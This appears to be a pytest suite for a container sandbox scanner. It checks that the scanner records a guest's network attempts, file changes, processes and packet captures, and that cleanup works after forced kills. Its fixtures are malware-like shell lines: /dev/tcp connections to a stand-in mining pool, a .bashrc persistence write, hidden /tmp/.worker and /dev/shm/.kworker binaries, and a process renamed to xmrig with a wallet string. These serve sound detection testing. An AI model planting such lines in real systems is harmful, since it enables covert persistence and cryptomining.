"""An observation on a real engine, from the pause to the report; its refusals; and its end, by whatever death."""

import io
import json
import os
import platform
import random
import shutil
import signal
import subprocess
import sys
import tarfile
import time
from collections.abc import Callable, Iterator
from contextlib import suppress
from functools import partial
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest

from scanner.egressing import EgressOptions
from scanner.errors import SourceError, TargetError, UsageError
from scanner.model import Kind, Level, Report
from scanner.model.egress import Destination
from scanner.model.run import ChangeKind, How
from scanner.reports.json import load
from scanner.runtime.observe import ObserveOptions, Watching, check_engine, check_machine, observe
from scanner.runtime.sinkhole import netlink
from scanner.runtime.sinkhole.addresses import GUEST_LINK
from scanner.runtime.sinkhole.guest import Limits
from scanner.runtime.sinkhole.sweep import LABEL
from tests import host_image
from tests.egress.packet_lab import NETNS
from tests.engine_fixture import Engine, missing, started_engine
from tests.runtime.sinkhole.guests import Ground, swept

KILLS = int(os.environ.get("SANDSCAN_TEST_KILLS", "6"))
"""How many observers are killed; by hand 50."""
PROGRAMS = ("bash", "sleep", "cat", "cp", "id", "rm", "sh")
LOOK_ALIKE = r"""
exec 3<>/dev/tcp/198.51.100.7/22 3>&-
exec 4<>/dev/tcp/pool.example.org/3333
echo '{"id":1,"method":"mining.subscribe","params":["look-alike/1"]}' >&4
read -r -t 10 -u 4 && answered=answered
echo echo started >>/root/.bashrc
echo in the volume >/data/kept
cp /bin/cat /tmp/.worker
echo -n canary-in-a-packet >/dev/udp/203.0.113.9/9
echo $answered
"""


@pytest.fixture(scope="module")
def ground(engine: Engine) -> Iterator[Ground]:
    """An engine with a small image: bash, which connects by itself."""
    if os.geteuid() != 0:
        missing("root, to observe a guest")
    name = f"sandscan-observed-{os.getpid()}"
    data = host_image.tree(PROGRAMS, python=False)
    engine.client.api.import_image_from_data(data, name, "1", changes=["VOLUME /data", 'CMD ["id", "-u"]'])
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("DOCKER_HOST", engine.host)
        yield Ground(engine, f"{name}:1")
    engine.client.images.remove(f"{name}:1", force=True)


def options(seconds: float = 30, **more: Any) -> ObserveOptions:
    return ObserveOptions(limits=Limits(seconds=seconds), **more)


# ---- one run


@pytest.fixture(scope="module")
def pcap(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("pcap") / "run.pcap"


@pytest.fixture(scope="module")
def report(ground: Ground, pcap: Path) -> Report:
    """A look-alike's run that has to be stopped."""
    command = ["bash", "-c", LOOK_ALIKE + "read -u 4"]
    return observe(ground.image, command, options(3, episode="e-1", pcap=pcap))


@pytest.mark.engine
def test_the_run_is_told_whole(report: Report, ground: Ground) -> None:
    run = report.run
    assert run is not None
    assert (run.how, run.subject, run.episode) == (How.OBSERVE, ground.image, "e-1")
    assert (run.stopped, run.exit_code, run.output) == ("time limit of 3 s", None, b"answered\n")
    assert 2.5 < run.ended - run.started < 25
    assert run.command[:2] == ("bash", "-c")
    assert report.complete, [n.message for n in report.notifications]
    assert ground.left() == []


@pytest.mark.engine
def test_what_it_tried_is_told_with_name_port_process_and_first_bytes(report: Report) -> None:
    assert report.run is not None
    tried = {(a.name or a.target.address, a.target.port): a for a in report.run.attempts if a.protocol == "tcp"}
    assert set(tried) == {("198.51.100.7", 22), ("pool.example.org", 3333)}
    pool = tried["pool.example.org", 3333]
    assert (pool.service, pool.first[:16]) == ("stratum", b'{"id":1,"method"')
    process = report.run.process(pool.pid, pool.time)
    assert process is not None
    assert process.command[0] == "bash"
    assert report.run.started <= pool.time <= report.run.ended
    assert {(q.name, q.type) for q in report.run.queries} >= {("pool.example.org", "A")}
    [finding] = report.findings_of("observed/pool")
    assert "pool.example.org:3333" in finding.message


@pytest.mark.engine
def test_what_it_changed_is_told_in_the_image_and_in_volumes(report: Report) -> None:
    assert report.run is not None
    changes = {c.path: c for c in report.run.changes}
    assert set(changes) == {b"root/.bashrc", b"data/kept", b"tmp/.worker"}
    assert {c.change for c in changes.values()} == {ChangeKind.ADDED}
    assert changes[b"data/kept"].place.startswith("volume ")
    assert changes[b"tmp/.worker"].executable
    assert report.findings_of("drift/persistence")


@pytest.mark.engine
def test_what_ran_is_told_and_what_still_runs_was_looked_at(report: Report) -> None:
    assert report.run is not None
    shell, copy = report.run.processes
    assert copy.command == ("cp", "/bin/cat", "/tmp/.worker")
    assert (copy.parent, copy.exit_code) == (shell.pid, 0)
    assert copy.ended is not None
    assert shell.ended is None
    assert shell.digest is not None  # its program was read
    assert shell.user == "root"
    [connection] = [s for s in report.run.sockets if s.remote is not None]
    assert connection.pids == (shell.pid,)
    assert report.run.namespace is not None
    assert any(i.startswith("eth0 172.17.0.2") for i in report.run.namespace.interfaces)


@pytest.mark.engine
def test_every_packet_is_kept_for_wireshark(report: Report, pcap: Path) -> None:
    assert pcap.read_bytes()[:4] in (b"\xd4\xc3\xb2\xa1", b"\x4d\x3c\xb2\xa1")
    assert b"canary-in-a-packet" in pcap.read_bytes()
    assert pcap.stat().st_mode & 0o777 == 0o600


WALLET = "4" + "4AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A"
OUTPUT = b"7\nvalue /host/* /var/log\nrefused\n"
COMPOSE = """
services:
  agent:
    image: IMAGE
    network_mode: none
    user: "7"
    read_only: true
    working_dir: /var/log
    environment: {KEY: value}
    volumes: ["./work:/host:ro"]
    command:
      - bash
      - -c
      - |
        id -u; echo $$KEY /host/* $$PWD; (: >/var/log/x) 2>/dev/null || echo refused
        exec 3<>/dev/tcp/198.51.100.7/80
        (exec -a xmrig bash -c 'exit 0' -o stratum+tcp://pool.example.org:3333 -u WALLET -k --coin monero)
        exit 9
  other:
    image: IMAGE
"""


@pytest.fixture(scope="module")
def launched(ground: Ground, tmp_path_factory: pytest.TempPathFactory) -> tuple[Report, Path]:
    """A run as its launch says, which ends by itself, and the folder of the launch."""
    folder = tmp_path_factory.mktemp("launch")
    file = folder / "compose.yaml"
    file.write_text(COMPOSE.replace("IMAGE", ground.image).replace("WALLET", WALLET))
    given = options(launches=(str(file),), egress=EgressOptions(sandboxes=("agent",)), sandbox="agent")
    return observe(None, (), given), folder


@pytest.mark.engine
def test_a_launch_is_run_as_it_says_less_what_would_let_it_out(launched: tuple[Report, Path]) -> None:
    found, folder = launched
    assert found.run is not None
    assert (found.run.output, found.run.exit_code, found.run.stopped) == (OUTPUT, 9, "")
    withheld = {w.what for w in found.run.withheld}
    assert {"capability NET_RAW", f"host path {folder}/work at /host"} <= withheld
    assert found.complete, [n.message for n in found.notifications]


@pytest.mark.engine
def test_what_it_tried_is_joined_with_what_the_launch_lets_through(launched: tuple[Report, Path]) -> None:
    assert launched[0].egress is not None
    [agent] = launched[0].egress.sandboxes
    [tried] = agent.answer(Destination.INTERNET).tried or ()
    assert (tried.target, tried.outcome) == ("198.51.100.7:80", "closed")
    assert "destination:internet" in {edge.target for edge in agent.graph.observed}


@pytest.mark.engine
def test_a_program_that_has_ended_is_judged_by_its_command_line(launched: tuple[Report, Path]) -> None:
    """A shell under a miner's name, with a miner's words, that ends at once."""
    run = launched[0].run
    assert run is not None
    assert "xmrig" in [p.command[0] for p in run.processes]
    [finding] = launched[0].findings_of("live/miner-process")
    assert "pool.example.org:3333" in finding.message


@pytest.mark.engine
def test_a_sinkhole_that_falls_ends_the_run_and_is_said(ground: Ground) -> None:
    def kill(now: Watching) -> None:
        for status in Path("/proc").glob("[0-9]*/status") if now.left is not None else ():
            try:
                if (
                    f"PPid:\t{os.getpid()}\n" in status.read_text("utf-8", "replace")
                    and b"sinkhole.child" in (status.parent / "cmdline").read_bytes()
                ):
                    os.kill(int(status.parent.name), signal.SIGKILL)
            except OSError:
                continue

    found = observe(ground.image, ["sleep", "30"], options(), watch=kill)
    assert found.run is not None
    assert found.run.stopped == "the sinkhole fell"
    assert [n.level for n in found.notifications if "sinkhole fell" in n.message] == [Level.ERROR]
    assert not found.complete
    assert ground.left() == []


@pytest.mark.engine
def test_a_network_that_is_taken_away_leaves_the_report_incomplete(ground: Ground) -> None:
    def cut(now: Watching) -> None:
        for one in ground.client.containers.list(filters={"label": LABEL}) if now.left is not None else ():
            namespace = os.open(f"/proc/{one.attrs['State']['Pid']}/ns/net", os.O_RDONLY)
            with suppress(OSError):  # the other container's is the same
                netlink.in_namespace(namespace, partial(netlink.delete_link, GUEST_LINK))
            os.close(namespace)

    found = observe(ground.image, ["sleep", "30"], options(2), watch=cut)
    assert [n.level for n in found.notifications if "network was taken down" in n.message] == [Level.WARNING]
    assert not found.complete


# ---- refusals, before anything is started


@pytest.mark.engine
@pytest.mark.parametrize(
    ("target", "given", "error", "words"),
    [
        (None, {}, UsageError, "name an image"),
        ("archive:app.tar", {}, UsageError, "only an image of the local engine can be run"),
        ("sandscan-none:1", {}, TargetError, "has no image sandscan-none:1; fetch it with `docker pull"),
    ],
)
def test_what_cannot_be_run_is_refused(
    ground: Ground, target: str | None, given: dict[str, Any], error: type[Exception], words: str
) -> None:
    with pytest.raises(error, match=words):
        observe(target, (), options(**given))
    assert ground.left() == []


@pytest.mark.engine
def test_a_command_that_never_began_is_no_clean_run(ground: Ground) -> None:
    lacks_its_loader = io.BytesIO()
    with tarfile.open(fileobj=lacks_its_loader, mode="w") as tar:
        tar.add(host_image.program("sleep").resolve(), "sleep", recursive=False)
    name = f"sandscan-loaderless-{os.getpid()}"
    ground.engine.client.api.import_image_from_data(lacks_its_loader.getvalue(), name, "1")
    report = observe(f"{name}:1", ["/sleep", "1"], options())
    ground.engine.client.images.remove(f"{name}:1", force=True)

    assert not report.complete
    [said] = [n.message for n in report.notifications if n.level is Level.WARNING]
    assert said.startswith(
        "no program was seen to run, and the guest ended with exit code 1: exec /sleep: no such file"
    )


@pytest.mark.engine
def test_programs_by_relative_paths_are_told_apart_from_those_that_are_gone(ground: Ground) -> None:
    steps = "cd /root; cp /bin/sleep kept; ./kept 0; cp /bin/sleep lost; ./lost 0; cp /bin/sleep /tmp/gone; /tmp/gone 0; rm lost /tmp/gone"
    notes = [n.message for n in observe(ground.image, ["bash", "-c", steps], options()).notifications]

    [gone] = [note for note in notes if "whose files were gone" in note]
    # where a program of a moment ran from is known only if it was looked at in time
    assert gone.endswith((": /tmp/gone", ": /root/lost, /tmp/gone"))
    assert [note for note in notes if "./kept" in note] == []


@pytest.mark.engine
def test_a_launch_of_several_needs_a_name(ground: Ground, tmp_path: Path) -> None:
    file = tmp_path / "compose.yaml"
    file.write_text(f"services:\n  a: {{image: {ground.image}}}\n  b: {{image: {ground.image}}}\n")
    with pytest.raises(UsageError, match="starts 2 sandboxes; say which to observe with --sandbox: a, b"):
        observe(ground.image, (), options(launches=(str(file),)))
    with pytest.raises(UsageError, match="starts no sandbox c; there are a, b"):
        observe(None, (), options(launches=(str(file),), sandbox="c"))


def test_who_is_not_root_is_told_what_to_do() -> None:
    if os.geteuid() != 0:
        with pytest.raises(SourceError, match="needs root"):
            check_machine()
        return
    child = os.fork()
    if child == 0:
        os.setuid(65534)
        try:
            check_machine()
        except SourceError as e:
            os._exit(0 if "run it with sudo" in str(e) else 2)
        os._exit(1)
    assert os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]) == 0


INFO = {
    "OSType": "linux",
    "KernelVersion": platform.release(),
    "MemoryLimit": True,
    "PidsLimit": True,
    "CpuCfsQuota": True,
}


@pytest.mark.parametrize(
    ("endpoint", "changed", "words"),
    [
        ("tcp://192.0.2.1:2375", {}, "not on this machine"),
        ("ssh://box", {}, "not on this machine"),
        ("unix:///s", {"KernelVersion": "6.6.0-linuxkit"}, "another kernel .6.6.0-linuxkit"),
        ("unix:///s", {"OSType": "windows"}, "another kernel"),
        ("unix:///s", {"SecurityOptions": ["name=seccomp", "name=rootless"]}, "is rootless"),
        ("unix:///s", {"PidsLimit": False, "MemoryLimit": False}, "cannot limit memory or the number of processes"),
    ],
)
def test_an_engine_that_cannot_hold_a_guest_is_refused(endpoint: str, changed: dict[str, Any], words: str) -> None:
    client: Any = SimpleNamespace(api=SimpleNamespace(info=lambda: {**INFO, **changed}))
    with pytest.raises(SourceError, match=words):
        check_engine(client, endpoint)


@pytest.mark.engine
def test_this_engine_is_not_refused(ground: Ground) -> None:
    check_machine()
    check_engine(ground.client, ground.engine.host)


# ---- its end


def machine() -> dict[str, Any]:
    """What an observation could leave on the machine: links, firewall, named namespaces, programs in the kernel."""

    def told(*words: str) -> str:
        found = shutil.which(words[0], path=host_image.SEARCHED)
        return subprocess.run([found, *words[1:]], capture_output=True, text=True, check=False).stdout if found else ""

    links = told("ip", "-json", "link")
    return {
        "links": sorted(link["ifname"] for link in json.loads(links or "[]")),
        "rules": [one for one in told("iptables-save").splitlines() if not one.startswith("#")],
        "tables": told("nft", "list", "ruleset"),
        "names": sorted(p.name for p in Path("/run/netns").glob("*") if not p.name.startswith(NETNS)),
    }


@pytest.mark.engine
def test_killed_at_any_moment_nothing_is_left_after_the_next_start(ground: Ground, tmp_path: Path) -> None:
    """The guest dies with its observer within seconds, or stays frozen; a start later there is no container, volume, link, rule or name."""
    before = machine()
    chance = random.Random(6)
    for _ in range(KILLS):
        with subprocess.Popen(
            [sys.executable, "-m", "scanner.cli", "observe", ground.image, "--seconds", "2", "-q", "--", "sleep", "60"],
            env={**os.environ, "SANDSCAN_CACHE_DIR": str(tmp_path)},
            stdout=subprocess.DEVNULL,
        ) as observer:
            time.sleep(chance.uniform(0.2, 4))
            observer.send_signal(signal.SIGKILL)
        _until(lambda: not _running(ground), 30)
    swept(ground)
    assert ground.left() == []
    assert machine() == before


@pytest.mark.engine
def test_killed_while_its_guest_is_frozen_it_leaves_nothing_that_runs(ground: Ground, tmp_path: Path) -> None:
    """With cgroup v1 what is frozen does not die before it is thawed; the next start takes it away there too."""
    with subprocess.Popen(
        [sys.executable, "-m", "scanner.cli", "observe", ground.image, "--seconds", "1", "-q", "--", "sleep", "60"],
        env={**os.environ, "SANDSCAN_CACHE_DIR": str(tmp_path)},
        stdout=subprocess.DEVNULL,
    ) as observer:
        _until(lambda: any(status == "paused" for _, status in _standing(ground)), 60)
        observer.send_signal(signal.SIGKILL)
    _until(lambda: not _running(ground), 30)
    swept(ground)
    assert ground.left() == []


@pytest.mark.engine
@pytest.mark.parametrize(("number", "code"), [(signal.SIGINT, 0), (signal.SIGTERM, 143)])
def test_ctrl_c_ends_the_run_with_a_report_and_another_signal_takes_everything_away_at_once(
    ground: Ground, tmp_path: Path, number: int, code: int
) -> None:
    with subprocess.Popen(
        [sys.executable, "-m", "scanner.cli", "observe", ground.image, "-q", "-o", "json", "--", "sleep", "60"],
        env={**os.environ, "SANDSCAN_CACHE_DIR": str(tmp_path)},
        stdout=subprocess.PIPE,
        stderr=subprocess.DEVNULL,
    ) as observer:
        _until(lambda: any(name.endswith("-guest") for name in _running(ground)), 60)
        time.sleep(0.5)
        observer.send_signal(number)
        told, _ = observer.communicate(timeout=60)
    assert observer.returncode == code
    if number == signal.SIGINT:
        run = load(told.decode()).run
        assert run is not None
        assert (run.stopped, run.exit_code) == ("Ctrl-C", None)
        assert ("sleep", "60") in [p.command for p in run.processes]
    else:
        assert told == b""
    assert ground.left() == []


@pytest.mark.engine
def test_an_engine_that_dies_takes_the_guest_along() -> None:
    with started_engine() as doomed, pytest.MonkeyPatch.context() as patch:
        patch.setenv("DOCKER_HOST", doomed.host)
        doomed.client.api.import_image_from_data(host_image.tree(["sleep"], python=False), "doomed", "1")
        guests: list[int] = []

        def kill(now: Watching) -> None:
            if now.left is not None and not guests:
                told = doomed.client.containers.list(filters={"label": "sandscan.observe"})
                guests.extend(c.attrs["State"]["Pid"] for c in told)
                assert doomed.process is not None
                doomed.process.kill()

        report = observe("doomed:1", ["sleep", "60"], options(), watch=kill)
        _bury(Path(doomed.socket).parent)
    assert not report.complete
    assert any("what the guest changed is not known: " in n.message for n in report.notifications), report.notifications
    assert report.run is not None
    assert "sleep 60" in [" ".join(p.command) for p in report.run.processes]
    assert len(guests) == 2
    _until(lambda: not any(Path(f"/proc/{pid}").exists() for pid in guests), 30)


def _bury(folder: Path) -> None:
    """What a killed engine itself leaves: the processes beside its containers, and their namespaces' mounts."""
    for words in Path("/proc").glob("[0-9]*/cmdline"):
        with suppress(OSError):
            if b"containerd-shim" in words.read_bytes() and os.fsencode(folder) in words.read_bytes():
                os.kill(int(words.parent.name), signal.SIGKILL)
    for mount in folder.glob("exec/netns/*"):
        subprocess.run(["umount", "-l", mount], check=False)


def _running(ground: Ground) -> list[str]:
    """Containers of observations in which something may still run: not in a frozen guest, nor in a pause that waits for it to die."""
    standing = _standing(ground)
    frozen = {name.rpartition("-")[0] for name, status in standing if status == "paused"}
    return [name for name, status in standing if status == "running" and name.rpartition("-")[0] not in frozen]


def _standing(ground: Ground) -> list[tuple[str, str]]:
    """(name, status) of containers of observations that are not over."""
    found = ground.client.containers.list(filters={"label": "sandscan.observe"}, ignore_removed=True)
    return [(c.name, c.status) for c in found]


def _until(true: Callable[[], bool], seconds: float) -> None:
    end = time.monotonic() + seconds
    while not true():
        assert time.monotonic() < end
        time.sleep(0.05)


@pytest.mark.engine
def test_what_a_guest_left_in_memory_is_judged_though_it_has_ended(ground: Ground, tmp_path: Path) -> None:
    steps = "cp /bin/sleep /dev/shm/.kworker; cp /bin/sleep /scratch/tool; echo 1 > /bound/note; sleep 0.5"
    file = tmp_path / "compose.yaml"
    (tmp_path / "work").mkdir()
    file.write_text(
        f"services:\n  agent:\n    image: {ground.image}\n    tmpfs: [/scratch]\n"
        f"    volumes: ['./work:/bound']\n    command: [bash, -c, '{steps}']\n"
    )

    report = observe(None, (), options(launches=(str(file),), egress=EgressOptions()))

    assert report.complete, [n.message for n in report.notifications]
    assert report.run is not None
    assert (report.run.exit_code, report.run.stopped) == (0, "")
    left = {
        c.path: (c.change, c.place, c.executable) for c in report.run.changes if c.after and c.after.kind is Kind.FILE
    }
    assert left[b"dev/shm/.kworker"] == (ChangeKind.ADDED, "tmpfs", True)
    assert left[b"scratch/tool"] == (ChangeKind.ADDED, "tmpfs", True)
    assert left[b"bound/note"] == (
        ChangeKind.ADDED,
        "tmpfs",
        False,
    )  # an empty place in memory stands in for the host's folder
    assert b"dev/shm/.kworker" in {f.locations[0].path for f in report.findings_of("drift/new-executable")}
